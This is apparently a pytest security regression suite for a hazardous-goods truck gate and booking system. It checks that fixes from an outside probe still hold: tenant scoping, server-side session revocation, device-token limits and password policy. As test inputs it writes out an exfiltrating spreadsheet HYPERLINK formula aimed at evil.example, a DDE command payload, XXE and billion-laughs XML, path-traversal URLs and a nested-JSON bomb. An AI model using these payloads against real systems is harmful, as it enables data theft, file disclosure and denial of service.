"""The holes an outside probe found, each closed: read ids per lane, bookings within
the booker's scope, exports without live formulas, the receiver's own lot, every
checkpoint held against the chain, sessions that end on the server, devices kept
to their lane, deep JSON, sign-in without enumeration or lock-out, the password
policy, and records other enterprises rely on."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, text

from audit.offline import main as offline_main
from auth.tokens import issue_token
from kernel import clock
from kernel.uow import Actor, unit_of_work
from models import AuditEvent, Carrier, Dock, Person, User, Vehicle, enterprise_carriers
from tests.factories import (
    PASSWORD,
    allow_petrol_and_corrosives,
    auth,
    book,
    csrf_token,
    login,
    make_person,
    make_world,
    national_id,
    uscc,
)
from tests.integration.test_bookings_api import body as booking_body
from tests.vendor_payloads import JPEG

ACTOR = Actor.system("tests")


def device_token(session_factory, world, lane: str) -> str:  # type: ignore[no-untyped-def]
    with unit_of_work(session_factory) as uow:
        user = uow.session.get(User, world.users["device"].id)
        raw = issue_token(uow, user, f"camera {lane}", ACTOR, lane_id=world.lanes[lane].id)
        uow.commit()
    return raw


def dahua(snap_id: str, at: str, device: str = "ITC-1", plate: str = "苏A88888") -> bytes:
    return json.dumps({"Picture": {
        "Plate": {"Channel": 0, "Confidence": 95, "IsExist": True, "PlateColor": "Blue",
                  "PlateNumber": plate},
        "SnapInfo": {"AccurateTime": at, "DeviceID": device, "SnapID": snap_id},
        "CutoutPic": {"Content": base64.b64encode(JPEG).decode()}}},
        ensure_ascii=False).encode()


def push(client, lane: str, token: str, data: bytes):  # type: ignore[no-untyped-def]
    return client.post(f"/api/v1/lanes/{lane}/anpr/dahua", data=data,
                       headers={"Content-Type": "application/json", **auth(token)})


# --- 1. a read id answers only for its own lane ------------------------------------------------

def test_the_same_vendor_counter_at_two_lanes_is_two_reads(client, session_factory):
    world = make_world(session_factory)
    north = device_token(session_factory, world, "P2-IN")
    south = world.tokens["device"]  # bound to P1-IN
    payload = dahua("17", "2026-11-22 09:00:01.250")
    first = push(client, "P1-IN", south, payload)
    second = push(client, "P2-IN", north, payload)
    assert first.status_code == second.status_code == 201, (first.json, second.json)
    assert first.json["lane"] == "P1-IN" and second.json["lane"] == "P2-IN"
    assert first.json["id"] != second.json["id"] and second.json["replayed"] is False
    # A retry at either lane gets that lane's own first answer.
    again = push(client, "P2-IN", north, payload)
    assert again.status_code == 200 and again.json["id"] == second.json["id"]
    assert again.json["lane"] == "P2-IN"


def test_a_camera_whose_counter_restarted_is_not_answered_from_the_past(client, session_factory):
    world = make_world(session_factory)
    token = world.tokens["device"]
    before = push(client, "P1-IN", token, dahua("1", "2026-11-22 08:00:00.000"))
    clock.advance(timedelta(minutes=5))
    after = push(client, "P1-IN", token, dahua("1", "2026-11-22 09:05:00.000"))
    assert before.status_code == after.status_code == 201
    assert after.json["id"] != before.json["id"]


def test_a_read_id_replayed_at_another_lane_never_returns_that_lanes_passage(
        client, session_factory):
    world = make_world(session_factory)
    body = {"read_id": "cam-0001", "plate": "苏A88888", "plate_colour": "blue",
            "confidence": 0.97, "seen_at": clock.now().isoformat()}
    staff = auth(world.tokens["gate_operator"])
    here = client.post("/api/v1/lanes/P1-IN/reads", json=body, headers=staff)
    there = client.post("/api/v1/lanes/P2-IN/reads", json=body, headers=staff)
    assert here.status_code == there.status_code == 201
    assert there.json["lane"] == "P2-IN" and there.json["id"] != here.json["id"]
    # A lane's device token never reads a passage, its own lane's or another's.
    token = auth(world.tokens["device"])
    assert client.get(f"/api/v1/passages/{there.json['id']}", headers=token).status_code == 403
    listed = client.get("/api/v1/lanes/P2-IN/passages", headers=token)
    assert listed.status_code == 403


# --- 2. bookings name only what the booker may see ------------------------------------------

@pytest.fixture
def theirs(session_factory):  # type: ignore[no-untyped-def]
    """A rig and driver of a carrier that works for E2 only."""
    world = allow_petrol_and_corrosives(session_factory, make_world(session_factory))
    far = clock.now().date() + timedelta(days=300)
    with unit_of_work(session_factory) as uow:
        carrier = Carrier(name="乙方车队", credit_code=uscc(55), licence_scope=["3"])
        uow.session.add(carrier)
        uow.session.flush()
        uow.session.execute(enterprise_carriers.insert().values(
            enterprise_id=world.enterprises["E2"].id, carrier_id=carrier.id))
        truck = Vehicle(plate="苏E77777", plate_colour="yellow", kind="rigid", category="hazmat",
                        carrier_id=carrier.id, road_permit_no="X", permit_scope=["3"],
                        permit_expires_on=far, review_expires_on=far, insurance_expires_on=far,
                        inspection_expires_on=far, rated_load_kg=30000.0,
                        gps_last_fix_at=clock.now(), created_at=clock.now())
        uow.session.add(truck)
        driver = make_person(uow, 77, "赵乙方", "driver", expires_on=far)
        driver.carrier_id = carrier.id
        uow.session.flush()
        ids = {"vehicle": truck.id, "driver": driver.id}
        uow.commit()
    return world, ids


def test_a_booking_naming_another_enterprises_rig_is_refused_as_if_it_did_not_exist(
        client, theirs):
    world, ids = theirs
    e1 = auth(world.tokens["logistics_E1"])
    foreign = booking_body(world, vehicle_id=ids["vehicle"], trailer_id=None,
                           driver_id=ids["driver"])
    missing = booking_body(world, vehicle_id=999_991, trailer_id=None, driver_id=999_992)
    for path in ("", "/check"):
        a = client.post(f"/api/v1/bookings{path}", json=foreign, headers=e1)
        b = client.post(f"/api/v1/bookings{path}", json=missing, headers=e1)
        assert a.status_code == b.status_code == 422, (a.json, path)
        assert a.json["code"] == b.json["code"] == "BOOKING_INVALID"
        assert a.json["errors"] == b.json["errors"]
        assert "赵乙方" not in a.get_data(as_text=True)
    # The owner's own booking of its truck is not refused for an overlap it never made.
    e2 = auth(world.tokens["logistics_E2"])
    own = client.post("/api/v1/bookings/check", json=booking_body(
        world, "E2", vehicle_id=ids["vehicle"], trailer_id=None, driver_id=ids["driver"]),
        headers=e2)
    assert own.status_code == 200, own.json
    assert not {"TRIP_OVERLAP", "TRIP_OVERLAP_OTHER"} & {f["code"] for f in own.json["failures"]}
    # Editing a booking onto another enterprise's truck is refused the same way.
    mine = client.post("/api/v1/bookings", json=booking_body(world, hours_ahead=30), headers=e1)
    assert mine.status_code == 201, mine.json
    edit = client.put(f"/api/v1/bookings/{mine.json['id']}", json=booking_body(
        world, hours_ahead=30, vehicle_id=ids["vehicle"], trailer_id=None), headers=e1)
    assert edit.status_code == 422 and "vehicle_id" in edit.json["errors"]


def test_an_overlap_with_another_enterprises_trip_names_no_code(client, session_factory):
    world = make_world(session_factory)
    # E2 books the shared rig (the world's carrier works for both enterprises).
    trip = book(session_factory, world, enterprise="E2", start=clock.now() + timedelta(hours=2))
    r = client.post("/api/v1/bookings/check", json=booking_body(world),
                    headers=auth(world.tokens["logistics_E1"]))
    assert r.status_code == 200, r.json
    codes = {f["code"] for f in r.json["failures"]}
    assert "TRIP_OVERLAP_OTHER" in codes and "TRIP_OVERLAP" not in codes
    assert trip.code not in r.get_data(as_text=True)


def test_the_booking_look_ups_and_import_see_only_the_bookers_records(client, theirs):
    world, _ = theirs
    login(client, "logistics_e1")
    found = client.get("/bookings/lookup/vehicle", query_string={"vehicle_plate": "苏E77777"})
    assert found.status_code == 200 and "data-vehicle" not in found.get_data(as_text=True)
    person = client.get("/bookings/lookup/person", query_string={"driver": "赵乙方"})
    assert "data-person" not in person.get_data(as_text=True)
    own = client.get("/bookings/lookup/person", query_string={"driver": "王师傅"})
    assert "data-person" in own.get_data(as_text=True)
    start = clock.now() + timedelta(hours=3)
    rows = ("plate,plate_colour,driver,plant,window_start,window_end,cargo\n"
            f"苏E77777,yellow,赵乙方,E1-P,{start:%Y-%m-%d %H:%M},"
            f"{start + timedelta(hours=2):%Y-%m-%d %H:%M},UN1203:1t\n")
    r = client.post("/api/v1/bookings/import", data={"file": (io.BytesIO(rows.encode()), "b.csv")},
                    headers=auth(world.tokens["logistics_E1"]))
    assert r.status_code == 422
    fields = {e["field"] for e in r.json["errors"]}
    assert {"plate", "driver"} <= fields


# --- 3. exports never carry live formulas ----------------------------------------------------

def test_audit_exports_neutralise_formulas_and_still_verify_offline(client, session_factory,
                                                                    tmp_path):
    world = make_world(session_factory)
    evil = '=HYPERLINK("http://evil.example/"&B2,"open")'
    client.post("/login", data={"username": evil, "password": "x",
                                "csrf_token": csrf_token(client)})
    made = client.post("/api/v1/audit/checkpoints", headers=auth(world.tokens["admin"]))
    note = client.get(f"/api/v1/audit/checkpoints/{made.json['id']}",
                      headers=auth(world.tokens["auditor"])).get_data(as_text=True)
    key = client.get("/api/v1/audit/public-key", headers=auth(world.tokens["auditor"])
                     ).json["public_key"]
    (tmp_path / "cp.json").write_text(note)
    seq = made.json["size"]
    got = client.get("/api/v1/audit/events/export", query_string={"format": "csv", "seq_to": seq},
                     headers=auth(world.tokens["auditor"]))
    text_csv = got.get_data(as_text=True)
    rows = [r for r in csv.reader(io.StringIO(text_csv.lstrip("\ufeff")))
            if not r[0].startswith("#")]  # the excerpt's preamble
    names = [r[rows[0].index("actor_name")] for r in rows[1:]]
    assert "'" + evil in names and evil not in names
    path = tmp_path / "export.csv"
    path.write_bytes(got.data)
    args = ["--checkpoint", str(tmp_path / "cp.json"), "--public-key", key]
    assert offline_main([str(path), *args]) == 0
    path.write_text(text_csv.replace("evil.example", "evi1.example"), encoding="utf-8")
    assert offline_main([str(path), *args]) == 1
    xlsx = client.get("/api/v1/audit/events/export", query_string={"format": "xlsx",
                                                                  "seq_to": seq},
                      headers=auth(world.tokens["auditor"]))
    (tmp_path / "e.xlsx").write_bytes(xlsx.data)
    sheet = load_workbook(tmp_path / "e.xlsx")["audit-1"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == evil]
    assert cells and all(c.data_type == "s" for c in cells)
    assert offline_main([str(tmp_path / "e.xlsx"), *args]) == 0


def test_record_exports_neutralise_formulas(client, session_factory, tmp_path):
    world = make_world(session_factory)
    admin = auth(world.tokens["admin"])
    person = client.post("/api/v1/persons", json={"name": "=1+2*3",
                                                  "national_id": national_id(41)}, headers=admin)
    assert person.status_code == 201, person.json
    carrier = client.post("/api/v1/carriers", json={"name": "-2+3+cmd|' /C calc'!A0",
                                                    "credit_code": uscc(41)}, headers=admin)
    assert carrier.status_code == 201, carrier.json
    xlsx = client.get("/api/v1/persons/export", query_string={"format": "xlsx"}, headers=admin)
    (tmp_path / "p.xlsx").write_bytes(xlsx.data)
    cells = [c for row in load_workbook(tmp_path / "p.xlsx").worksheets[0].iter_rows()
             for c in row if c.value == "=1+2*3"]
    assert cells and all(c.data_type == "s" for c in cells)
    text_csv = client.get("/api/v1/carriers/export", query_string={"format": "csv"},
                          headers=admin).get_data(as_text=True)
    assert "'-2+3+cmd|' /C calc'!A0" in text_csv
    assert not any(line.startswith("-2+3") or ",-2+3" in line for line in text_csv.splitlines())
    # What goes out comes back in as it was.
    back = client.post("/api/v1/carriers/import", query_string={"dry_run": "true"},
                       data={"file": (io.BytesIO(text_csv.encode()), "c.csv")}, headers=admin)
    assert back.status_code == 200 and back.json["unchanged"] >= 2, back.json


# --- 4. a plant receiver sees its own plant of the lot ---------------------------------------

def test_a_receivers_lot_page_and_api_show_only_its_plant(client, session_factory):
    from tests.integration.test_gate import read

    world = make_world(session_factory)
    with session_factory() as s:
        for dock in s.scalars(select(Dock)):
            dock.busy = True
        s.commit()
    theirs = book(session_factory, world, enterprise="E2")
    read(client, world, "L1-IN", crew_ids=[national_id(1), national_id(2)])
    with session_factory() as s:
        plate_e2 = s.get(Vehicle, theirs.vehicle_id).plate
    receiver = auth(world.tokens["receiver"])
    api = client.get("/api/v1/lot", headers=receiver)
    assert api.status_code == 200
    assert [p["id"] for p in api.json["plants"]] == [world.plants["E1"].id]
    assert plate_e2 not in api.get_data(as_text=True) and theirs.code not in api.get_data(
        as_text=True)
    assert any(b["occupied"] and b["plate"] is None for z in api.json["zones"] for b in z["bays"])
    login(client, "receiver")
    page = client.get("/lot").get_data(as_text=True)
    assert plate_e2 not in page and theirs.code not in page and "E2 装置" not in page
    assert "channels=lot" in page.replace("%2C", ",") and "alarms" not in page.split(
        "sse-connect=")[1].split(">")[0]
    # The page's live stream is one the receiver may open.
    with client.get("/events?channels=lot", buffered=False) as stream:
        assert stream.status_code == 200
    assert client.get("/api/v1/lot/kpis", headers=receiver).status_code == 403


# --- 5. verification holds the chain against every signed checkpoint -----------------------

def test_verify_names_the_first_checkpoint_a_rehashed_chain_no_longer_matches(
        client, app, database, session_factory):
    from audit.chain import BODY_COLUMNS, GENESIS_HASH, link
    from audit.chain import body as chain_body
    from parkgate.cli import main
    from tests.integration.test_audit_chain import append, as_superuser

    world = make_world(session_factory)
    append(database, 5)
    first = client.post("/api/v1/audit/checkpoints", headers=auth(world.tokens["admin"])).json
    append(database, 5, start=5)
    clock.advance(timedelta(seconds=61))  # on-demand checkpoints: one a minute
    second = client.post("/api/v1/audit/checkpoints", headers=auth(world.tokens["admin"])).json
    auditor = auth(world.tokens["auditor"])
    assert client.get("/api/v1/audit/verify", headers=auditor).json["checkpoints_checked"] == 2
    # A DBA edits one event after the first checkpoint and re-hashes the chain from there.
    with session_factory() as s:
        rows = list(s.scalars(select(AuditEvent).order_by(AuditEvent.seq)))
    target = first["seq"] + 2
    with as_superuser(database) as conn:
        prev = GENESIS_HASH
        for row in rows:
            plate = "苏A00000" if row.seq == target else row.plate
            values = [getattr(row, c) for c in BODY_COLUMNS]
            values[BODY_COLUMNS.index("plate")] = plate
            digest = link(prev, chain_body(row.seq, row.at, values, row.trip_prev_leaf))
            conn.execute(text("UPDATE audit_events SET plate = :plate, prev_hash = :p, hash = :h "
                              "WHERE seq = :s"), {"plate": plate, "p": prev, "h": digest,
                                                 "s": row.seq})
            prev = digest
    from audit.service import verify_chain

    assert verify_chain(database.engine).ok  # consistent in itself
    verdict = client.get("/api/v1/audit/verify", headers=auditor).json
    assert verdict["ok"] is False and verdict["checkpoint_id"] == second["id"]
    assert verdict["checkpoint_range"] == [first["seq"] + 1, second["seq"]]
    result = app.test_cli_runner().invoke(main, ["audit", "verify"])
    assert result.exit_code == 1
    assert f"covers events #{first['seq'] + 1}–#{second['seq']}" in result.output
    login(client, "auditor")
    page = client.post("/audit/verify", data={"csrf_token": csrf_token(client, "/audit/verify")})
    assert "broken-checkpoint" in page.get_data(as_text=True)
    backwards = client.post("/audit/verify", data={"from": 9, "to": 3,
                                                   "csrf_token": csrf_token(client, "/audit")})
    assert backwards.status_code == 422 and "verify-error" in backwards.get_data(as_text=True)
    assert client.get("/api/v1/audit/verify", query_string={"from": 9, "to": 3},
                      headers=auditor).status_code == 422


# --- 6. sessions end on the server ----------------------------------------------------------

def _copied_cookie(client):  # type: ignore[no-untyped-def]
    return client.get_cookie("session").value


def _with_cookie(app, cookie: str):  # type: ignore[no-untyped-def]
    other = app.test_client()
    other.set_cookie("session", cookie)
    return other


def test_a_cookie_copied_before_logout_is_refused_after_it(client, app, session_factory):
    make_world(session_factory)
    login(client, "auditor")
    copied = _copied_cookie(client)
    thief = _with_cookie(app, copied)
    assert thief.get("/audit").status_code == 200
    client.post("/logout", data={"csrf_token": csrf_token(client, "/audit")})
    assert thief.get("/audit").status_code == 302  # back to the login page
    assert thief.get("/api/v1/audit/events").status_code == 401


@pytest.mark.parametrize("change", ["password", "roles", "disable"])
def test_a_change_of_access_ends_every_session_of_the_user(client, app, session_factory, change):
    from auth.service import set_active, set_password, set_roles

    make_world(session_factory)
    login(client, "dispatcher")
    other_desk = app.test_client()
    login(other_desk, "dispatcher")
    assert client.get("/lot").status_code == 200 and other_desk.get("/lot").status_code == 200
    with unit_of_work(session_factory) as uow:
        if change == "password":
            set_password(uow, ACTOR, "dispatcher", "a much longer passphrase 2026")
        elif change == "roles":
            set_roles(uow, ACTOR, "dispatcher", ["auditor"])
        else:
            set_active(uow, ACTOR, "dispatcher", False)
        uow.commit()
    assert client.get("/lot").status_code == 302
    assert other_desk.get("/lot").status_code == 302


def test_each_login_starts_a_new_server_session(client, app, session_factory):
    make_world(session_factory)
    login(client, "auditor")
    first = _copied_cookie(client)
    login(client, "auditor")
    assert _copied_cookie(client) != first
    with session_factory() as s:
        assert s.execute(text("SELECT count(*) FROM user_sessions")).scalar_one() == 2


def test_a_user_changes_their_own_password_on_the_account_page(client, session_factory):
    make_world(session_factory)
    login(client, "auditor")
    token = csrf_token(client, "/account")
    weak = client.post("/account", data={"current": PASSWORD, "new": "password123",
                                         "again": "password123", "csrf_token": token})
    assert weak.status_code == 422 and "最常见" in weak.get_data(as_text=True)
    wrong = client.post("/account", data={"current": "nope", "new": "tide pool lantern 77",
                                          "again": "tide pool lantern 77", "csrf_token": token})
    assert wrong.status_code == 422
    done = client.post("/account", data={"current": PASSWORD, "new": "tide pool lantern 77",
                                         "again": "tide pool lantern 77", "csrf_token": token})
    assert done.status_code == 302
    assert client.get("/audit").status_code == 302  # signed out everywhere, this desk too
    assert login(client, "auditor", "tide pool lantern 77").status_code == 302


# --- 7. device tokens reach only their lane's device endpoints ------------------------------

def test_a_lane_token_reads_no_trip_and_hears_no_other_lane(client, session_factory):
    world = make_world(session_factory)
    trip = book(session_factory, world, enterprise="E2")
    device = auth(world.tokens["device"])
    assert client.get(f"/api/v1/trips/{trip.id}", headers=device).status_code == 403
    assert client.post(f"/api/v1/trips/{trip.id}/transitions", json={"action": "cancel"},
                       headers=device).status_code == 403
    assert client.get("/events?channels=lane:P2-IN", headers=device).status_code == 403
    assert client.get("/events?channels=drivers", headers=device).status_code == 403
    assert client.get("/events?channels=roster", headers=device).status_code == 403
    with client.get("/events?channels=lane:P1-IN", headers=device, buffered=False) as own:
        assert own.status_code == 200


# --- 8. deeply nested JSON ---------------------------------------------------------------------

@pytest.mark.parametrize("path", ["/api/v1/bookings", "/api/v1/lanes/P1-IN/reads",
                                  "/api/v1/persons", "/api/v1/lanes/P1-IN/anpr/dahua"])
def test_deeply_nested_json_is_a_400_problem(client, session_factory, path):
    world = make_world(session_factory)
    body = b"[" * 100_000 + b"]" * 100_000
    r = client.post(path, data=body, headers={"Content-Type": "application/json",
                                              **auth(world.tokens["admin"])})
    assert r.status_code == 400, r.data[:200]
    assert r.headers["Content-Type"].startswith("application/problem+json")
    assert r.json["code"] in ("JSON_INVALID", "VENDOR_BAD_JSON")


# --- 9. sign-in: no enumeration, nothing to lock anyone out ---------------------------------

def test_a_disabled_account_answers_like_an_unknown_name(client, session_factory):
    from auth.service import set_active

    make_world(session_factory)
    with unit_of_work(session_factory) as uow:
        set_active(uow, ACTOR, "auditor", False)
        uow.commit()
    disabled = login(client, "auditor")
    unknown = login(client, "nobody", PASSWORD)
    assert disabled.status_code == unknown.status_code == 401

    def page(response) -> str:  # type: ignore[no-untyped-def]
        # The CSRF token is signed with the second it was made in: two answers a second
        # apart differ there and nowhere else a visitor could tell.
        return re.sub(r'(csrf[-_]token"?\s+(?:content|value)=")[^"]+', r"\1…",
                      response.get_data(as_text=True))

    assert page(disabled) == page(unknown).replace('value="nobody"', 'value="auditor"')


# --- 10. passwords --------------------------------------------------------------------------

@pytest.mark.parametrize("password", ["short", "password123", "qwertyuiop", "dispatcher-2026",
                                      "aaaaaaaaaaaa"])
def test_the_password_policy_refuses_weak_passwords(session_factory, password):
    from auth.service import PasswordRejected, create_user

    make_world(session_factory)
    with unit_of_work(session_factory) as uow, pytest.raises(PasswordRejected):
        create_user(uow, ACTOR, username="dispatcher-2", display_name="x", password=password,
                    roles=["dispatcher"])


def test_seeding_the_demo_in_production_makes_random_passwords(session_factory):
    from auth.passwords import verify_password
    from demo.seed import DEMO_PASSWORDS, seed_demo

    clock.pin(clock.now())
    with unit_of_work(session_factory) as uow:
        seeded = seed_demo(uow, pii_key="test-pii-key", vehicles=20, persons=30, trips_today=5,
                           well_known_passwords=False)
    with session_factory() as s:
        for username, (well_known, _, _) in DEMO_PASSWORDS.items():
            user = s.scalar(select(User).where(User.username == username))
            assert not verify_password(user.password_hash, well_known)
            assert verify_password(user.password_hash, seeded.users[username])
            assert len(seeded.users[username]) >= 16


# --- 11. records other enterprises rely on ----------------------------------------------------

def test_an_enterprise_cannot_rename_a_shared_carrier_or_move_a_person_away(client,
                                                                             session_factory):
    world = make_world(session_factory)
    e1 = auth(world.tokens["logistics_E1"])
    rename = client.patch(f"/api/v1/carriers/{world.carrier.id}", json={"name": "改名"},
                          headers=e1)
    assert rename.status_code == 403 and rename.json["code"] == "OUT_OF_SCOPE"
    own = client.post("/api/v1/persons", json={"name": "甲厂员工", "national_id": national_id(51),
                                               "enterprise_id": world.enterprises["E1"].id},
                      headers=e1)
    assert own.status_code == 201, own.json
    moved = client.patch(f"/api/v1/persons/{own.json['id']}",
                         json={"enterprise_id": world.enterprises["E2"].id}, headers=e1)
    missing = client.patch(f"/api/v1/persons/{own.json['id']}",
                           json={"enterprise_id": 999_999}, headers=e1)
    assert moved.status_code == missing.status_code == 422
    assert moved.json["errors"] == missing.json["errors"]
    # The crew of the shared carrier are edited by E1, but never moved to E2.
    crew = client.patch(f"/api/v1/persons/{world.persons['driver'].id}",
                        json={"enterprise_id": world.enterprises["E2"].id}, headers=e1)
    assert crew.status_code == 422
    with session_factory() as s:
        assert s.get(Person, own.json["id"]).enterprise_id == world.enterprises["E1"].id
        assert s.get(Carrier, world.carrier.id).name == "通达危运"


# --- defences that held, kept ------------------------------------------------------------------

def test_xml_entities_and_path_traversal_stay_refused(client, session_factory):
    world = make_world(session_factory)
    xxe = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
           b"<EventNotificationAlert><eventType>ANPR</eventType><ANPR><licensePlate>&e;"
           b"</licensePlate></ANPR></EventNotificationAlert>")
    laughs = (b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">'
              b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;">]>'
              b"<EventNotificationAlert><eventType>&c;</eventType></EventNotificationAlert>")
    for body in (xxe, laughs):
        r = client.post("/api/v1/lanes/P1-IN/anpr/hikvision", data=body,
                        headers={"Content-Type": "application/xml",
                                 **auth(world.tokens["device"])})
        assert r.status_code == 400 and r.json["code"] == "VENDOR_FORBIDDEN_XML"
        assert "root:" not in r.get_data(as_text=True)
    for path in ("/static/../../etc/passwd", "/static/%2e%2e/%2e%2e/etc/passwd",
                 "/static/..%2f..%2fparkgate%2fconfig.py"):
        r = client.get(path)
        assert r.status_code == 404 and "root:" not in r.get_data(as_text=True), path
